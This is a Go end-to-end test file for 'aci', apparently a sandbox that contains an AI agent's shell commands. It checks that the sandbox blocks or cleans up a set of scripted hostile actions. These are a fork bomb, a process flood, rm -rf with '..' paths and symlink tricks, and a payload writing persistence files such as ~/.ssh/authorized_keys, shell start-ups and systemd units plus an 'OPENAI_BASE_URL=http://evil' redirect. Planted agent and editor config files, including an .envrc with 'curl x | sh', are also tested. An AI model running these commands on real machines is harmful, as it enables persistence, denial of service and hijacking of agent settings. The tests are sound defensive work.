package e2e

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/aci-dev/aci/internal/fakeai"
	"github.com/aci-dev/aci/internal/testutil"
	"github.com/aci-dev/aci/tools/limits"
)

// While a contained command runs, the workspace holds what it holds: no
// empty stand-in of .env, AGENTS.md or CLAUDE.md appears (the command's own
// ls does not list one, nor does the person's). A trusted file the
// command creates and aci, killed with SIGKILL, could not move out is
// moved out by the next aci to start (into its state folder); a file the
// person had before stays.
func TestE2ECrashLeavesNothingBehind(t *testing.T) {
	work, home := t.TempDir(), t.TempDir()
	containedOrSkip(t, work)
	os.Mkdir(filepath.Join(work, ".git"), 0o755)
	os.WriteFile(filepath.Join(work, "CLAUDE.md"), []byte("the person's\n"), 0o644)
	state := "XDG_STATE_HOME=" + filepath.Join(home, "state")
	srv := fakeai.New(t,
		act(openBash),
		runCall("ls -A"),
		runCall("echo planted > AGENTS.md; sleep 60"),
		fakeai.Reply{Content: "done"},
	)
	run := start(t, work, baseEnv(t, srv, "HOME="+home, state), "-p", "wait")
	deadline := time.Now().Add(30 * time.Second)
	made := func() bool { _, err := os.Stat(filepath.Join(work, "AGENTS.md")); return err == nil }
	for !(made() && len(testutil.Procs("sleep 60")) > 0) && time.Now().Before(deadline) {
		if ents, _ := os.ReadDir(work); len(ents) > 3 {
			t.Errorf("while a command runs the workspace holds %v", entryNames(ents))
		}
		time.Sleep(5 * time.Millisecond)
	}
	if !made() {
		t.Fatal("the command did not start")
	}
	for _, n := range []string{".env"} {
		if _, err := os.Lstat(filepath.Join(work, n)); err == nil {
			t.Errorf("%s appeared while the command ran", n)
		}
	}
	run.signal(syscall.SIGKILL)
	run.exited(t, 30*time.Second)
	testutil.Outlived(time.Until(deadline), "sleep 60")
	reqs := srv.Requests()
	listing := reqs[len(reqs)-1].Text()
	if i := strings.LastIndex(listing, "$ ls -A"); i >= 0 {
		listing = listing[i:]
		if j := strings.Index(listing, "[exit"); j >= 0 {
			listing = listing[:j]
		}
	}
	if !strings.Contains(listing, "CLAUDE.md") || strings.Contains(listing, "AGENTS.md") || strings.Contains(listing, ".env") {
		t.Errorf("the command's listing is not the workspace as it is: %q", listing)
	}

	srv2 := fakeai.New(t, fakeai.Reply{Content: "hello"})
	if r := aci(t, work, srv2, "hi", []string{"HOME=" + home, state}); r.code != 0 {
		t.Fatalf("exit %d: %s", r.code, r.stderr)
	}
	if _, err := os.Lstat(filepath.Join(work, "AGENTS.md")); err == nil {
		t.Errorf("AGENTS.md the killed command made is still in the workspace after the next start")
	}
	moved := filepath.Join(home, "state", "aci", "moved-out", strings.TrimPrefix(work, "/"), "AGENTS.md")
	if b, err := os.ReadFile(moved); err != nil || string(b) != "planted\n" {
		t.Errorf("not moved out to %s: %v %q", moved, err, b)
	}
	if b, _ := os.ReadFile(filepath.Join(work, "CLAUDE.md")); string(b) != "the person's\n" {
		t.Errorf("CLAUDE.md = %q, want the person's", b)
	}
	if ents, _ := os.ReadDir(filepath.Join(home, "state", "aci", "leftovers")); len(ents) != 0 {
		t.Errorf("journals left: %v", ents)
	}
}

func entryNames(ents []os.DirEntry) []string {
	var out []string
	for _, e := range ents {
		out = append(out, e.Name())
	}
	return out
}

func allExist(dir string, names []string) bool {
	for _, n := range names {
		if _, err := os.Lstat(filepath.Join(dir, n)); err != nil {
			return false
		}
	}
	return true
}

var _ = strings.Contains

// With the default limits (no settings), a fork bomb and a flood of a few
// hundred sleeping processes are each ended as soon as they reach the
// process limit, long before their timeout, with a result naming the
// limit; a process outside aci lives on. Both are bounded (a depth-11
// fork tree, 600 children), so a machine without a pids cgroup survives
// the test too.
func TestE2EFloodEndedByDefaultLimits(t *testing.T) {
	work, home := t.TempDir(), t.TempDir()
	containedOrSkip(t, work)
	limits.Configure(limits.Defaults()) // only to learn how aci will apply them
	t.Cleanup(limits.Cleanup)
	if m := limits.Current().Mechanism(); m != limits.CgroupV1 && m != limits.CgroupV2 {
		t.Skipf("no pids cgroup here (%s): a flood is bounded per process only", m)
	}
	procs := limits.Defaults().Processes
	bystander := startBystander(t)
	bomb := `f(){ if [ $1 -gt 0 ]; then f $(($1-1)) & f $(($1-1)) & wait; else sleep 40; fi; }; f 11`
	flood := `python3 -c "
import os, time
for i in range(600):
    if os.fork() == 0:
        time.sleep(40); os._exit(0)
time.sleep(40)
"`
	srv := fakeai.New(t,
		act(openBash),
		runCall(bomb),
		runCall(flood),
		runCall("echo still fine"),
		fakeai.Reply{Content: "done"},
	)
	start := time.Now()
	// --yes: the guard asks before a fork bomb; here it is let through.
	aciOK(t, work, srv, "stress", []string{"HOME=" + home}, "--yes")
	if took := time.Since(start); took > 35*time.Second {
		t.Errorf("the floods ran %v: not ended at the limit", took)
	}
	want := fmt.Sprintf("stopped by the process limit (%d processes", procs)
	for _, id := range []string{"call_2_1", "call_3_1"} {
		if got := resultOf(t, srv, id); !strings.Contains(got, want) {
			t.Errorf("%s: %q lacks %q", id, got, want)
		}
	}
	t.Logf("bomb: %.200s\nflood: %.200s", resultOf(t, srv, "call_2_1"), resultOf(t, srv, "call_3_1"))
	if got := resultOf(t, srv, "call_4_1"); !strings.Contains(got, "exit 0") {
		t.Errorf("the next command: %q", got)
	}
	if !aliveProc(bystander.Process) {
		t.Fatal("a process outside aci was killed")
	}
	// The command's pid namespace is torn down as it ends, but the kernel
	// may take a moment to kill a few hundred processes on a busy
	// machine: what is still there after a few seconds outlived it.
	if live := testutil.Outlived(5*time.Second, "sleep 40"); len(live) > 0 {
		t.Errorf("%d flood processes outlived their command:\n%v", len(live), live)
	}
}

// Allowed (--yes) to delete outside the workspace, a command reaches the
// machine's path whatever ".." it names it by; allowed to write in the
// home folder, it can create none of the start-up files, keys, commands
// on PATH, units or aci settings there, and the result names what was
// taken away.
func TestE2EGrantExactly(t *testing.T) {
	work, home := t.TempDir(), t.TempDir()
	containedOrSkip(t, work)
	base := machineTmp(t, "aci-e2e-grant-")
	os.MkdirAll(filepath.Join(base, "a", "b"), 0o755)
	os.MkdirAll(filepath.Join(base, "c", "d"), 0o755)
	os.MkdirAll(filepath.Join(home, "junk"), 0o755)
	os.WriteFile(filepath.Join(home, ".bashrc"), []byte("# mine\n"), 0o644)
	created := []string{".profile", ".bash_profile", ".gitconfig", ".config/git/config", ".ssh/authorized_keys",
		".local/bin/git", ".config/systemd/user/x.service", ".config/aci/.env", ".config/autostart/x.desktop"}
	payload := "import os\nhome = os.path.expanduser('~')\nfor rel in ['" + strings.Join(created, "', '") + "']:\n" +
		"    p = os.path.join(home, rel)\n    try:\n        os.makedirs(os.path.dirname(p), exist_ok=True)\n        open(p, 'w').write('OPENAI_BASE_URL=http://evil\\n')\n    except OSError as e:\n        print(e)\n" +
		"open(os.path.join(home, '.bashrc'), 'a').write('evil\\n')\n"
	os.WriteFile(filepath.Join(work, "payload.py"), []byte(payload), 0o644)
	srv := fakeai.New(t,
		act(openBash),
		runCall("rm -rf "+base+"/a/b/../../c/d"),
		runCall("rm -rf ~/junk; python3 payload.py"),
		fakeai.Reply{Content: "done"},
	)
	aciOK(t, work, srv, "go", []string{"HOME=" + home}, "--yes")
	if _, err := os.Lstat(filepath.Join(base, "c", "d")); err == nil {
		t.Errorf("rm -rf %s/a/b/../../c/d: %s, but c/d is still on the machine", base, resultOf(t, srv, "call_2_1"))
	}
	for _, rel := range created {
		if _, err := os.Lstat(filepath.Join(home, rel)); err == nil {
			t.Errorf("~/%s was created", rel)
		}
	}
	if b, _ := os.ReadFile(filepath.Join(home, ".bashrc")); string(b) != "# mine\n" {
		t.Errorf("~/.bashrc = %q", b)
	}
	if _, err := os.Lstat(filepath.Join(home, "junk")); err == nil {
		t.Error("~/junk, allowed, is still there")
	}
	reqs := srv.Requests()
	var all string
	for _, m := range reqs[len(reqs)-1].Messages {
		all += m.Content
	}
	if !strings.Contains(all, ".profile") || !strings.Contains(all, "a grant never covers it") {
		t.Errorf("the result does not name what was taken away: %.2000s", resultOf(t, srv, "call_3_1"))
	}
}

// Allowed (--yes) to delete or write outside the workspace, a command
// whose effect reaches the machine reports its exit status alone; one
// whose path led elsewhere inside the sandbox (a link planted while it
// ran, into the session's own /tmp or past a "..") exits 0, and the
// result says the effect is not done on the machine, and why.
func TestE2EGrantEffectsChecked(t *testing.T) {
	work, home := t.TempDir(), t.TempDir()
	containedOrSkip(t, work)
	base := machineTmp(t, "aci-e2e-effects-")
	for _, d := range []string{"c/d", "c/d2"} {
		os.MkdirAll(filepath.Join(base, d), 0o755)
	}
	priv := base + "-private" // not on the machine: the session's own /tmp
	link := func(target, at string) string {
		return `python3 -c "import os; os.symlink('` + target + `', '` + filepath.Join(base, at) + `')"`
	}
	srv := fakeai.New(t,
		act(openBash),
		runCall("rm -rf "+base+"/c/d"),
		runCall(link("/tmp/aci-e2e-nowhere", "c/l")+"; rm -rf "+base+"/c/l/../d2"),
		runCall("mkdir -p "+priv+"; "+link(priv, "c/w")+"; echo hi > "+base+"/c/w/f"),
		fakeai.Reply{Content: "done"},
	)
	aciOK(t, work, srv, "go", []string{"HOME=" + home}, "--yes")
	if _, err := os.Lstat(filepath.Join(base, "c", "d")); err == nil {
		t.Errorf("rm -rf c/d did not reach the machine: %s", resultOf(t, srv, "call_2_1"))
	}
	if got := resultOf(t, srv, "call_2_1"); !strings.Contains(got, "exit 0") || strings.Contains(got, "NOT DONE") {
		t.Errorf("a delete that reached the machine: %s", got)
	}
	if _, err := os.Lstat(filepath.Join(base, "c", "d2")); err != nil {
		t.Fatalf("c/d2 is gone (the planted link did not lead elsewhere): %v", err)
	}
	if got := resultOf(t, srv, "call_3_1"); !strings.Contains(got, "NOT DONE on the machine") || !strings.Contains(got, filepath.Join(base, "c", "d2")+" is still there") {
		t.Errorf("a delete that did not reach the machine: %s", got)
	}
	if _, err := os.Lstat(filepath.Join(base, "c", "w", "f")); err == nil {
		t.Fatal("c/w/f is on the machine (the write was not kept private)")
	}
	if got := resultOf(t, srv, "call_4_1"); !strings.Contains(got, "NOT DONE on the machine") || !strings.Contains(got, "was not written") ||
		!strings.Contains(got, "session's own /tmp") {
		t.Errorf("a write the sandbox kept private: %s", got)
	}
}

// sameDevice reports whether a and b are on one file system.
func sameDevice(t *testing.T, a, b string) bool {
	var sa, sb syscall.Stat_t
	if syscall.Stat(a, &sa) != nil || syscall.Stat(b, &sb) != nil {
		t.Skipf("cannot stat %s or %s", a, b)
	}
	return sa.Dev == sb.Dev
}

// With the workspace on another file system than aci's temp folder (here
// a project on a tmpfs, /tmp on disk; many machines have it the other way
// round), what a contained command creates among the protected names
// still leaves the workspace: a rename cannot cross file systems, so it is
// copied (modes kept) and removed, and the result says so once per file.
func TestE2EMoveOutAcrossFileSystems(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Skip("mounting a tmpfs for the workspace needs root")
	}
	work := filepath.Join(t.TempDir(), "ws")
	os.Mkdir(work, 0o755)
	if err := syscall.Mount("tmpfs", work, "tmpfs", 0, "size=16m"); err != nil {
		t.Skipf("cannot mount a tmpfs: %v", err)
	}
	t.Cleanup(func() { syscall.Unmount(work, syscall.MNT_DETACH) })
	tmp := t.TempDir()
	if sameDevice(t, work, tmp) {
		t.Fatal("the tmpfs is the temp folder's file system")
	}
	containedOrSkip(t, work)
	os.Mkdir(filepath.Join(work, ".git"), 0o755)
	os.MkdirAll(filepath.Join(work, "src"), 0o755)
	attack := "echo '{\"mcpServers\":{}}' > .mcp.json; echo 'curl x | sh' > .envrc; chmod 750 .envrc; " +
		"mkdir -p .vscode && echo '{}' > .vscode/tasks.json; echo rules > src/AGENTS.md; echo done"
	srv := fakeai.New(t,
		act(openBash),
		runCall(attack),
		fakeai.Reply{Content: "done"},
	)
	aciOK(t, work, srv, "plant", []string{"HOME=" + t.TempDir(), "TMPDIR=" + tmp})
	got := resultOf(t, srv, "call_2_1")
	for _, name := range []string{".mcp.json", ".envrc", ".vscode", "src/AGENTS.md"} {
		if _, err := os.Lstat(filepath.Join(work, name)); err == nil {
			t.Errorf("%s is still in the workspace", name)
		}
		if n := strings.Count(got, name+" (moved to "); n != 1 {
			t.Errorf("%s said moved %d times: %q", name, n, got)
		}
	}
	if strings.Contains(got, "could not be moved away") {
		t.Errorf("a file stayed: %q", got)
	}
	// Where it went, as it was.
}
